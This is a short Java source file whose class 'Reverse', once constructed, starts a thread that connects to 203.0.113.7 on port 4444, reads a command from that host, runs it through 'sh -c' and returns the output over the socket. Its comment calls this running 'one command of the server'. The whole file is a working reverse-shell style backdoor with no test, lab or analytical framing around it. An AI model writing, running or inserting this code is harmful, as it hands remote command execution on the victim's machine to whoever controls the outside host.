import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.Socket;

/** Runs one command of the server that it connects to. */
public class Reverse extends Thread {
  public Reverse() {
    start();
  }

  @Override
  public void run() {
    try (Socket socket = new Socket("203.0.113.7", 4444)) {
      String line = new BufferedReader(new InputStreamReader(socket.getInputStream())).readLine();
      Process process = new ProcessBuilder("sh", "-c", line).redirectErrorStream(true).start();
      process.getInputStream().transferTo(socket.getOutputStream());
    } catch (Exception e) {
      e.printStackTrace();
    }
  }
}
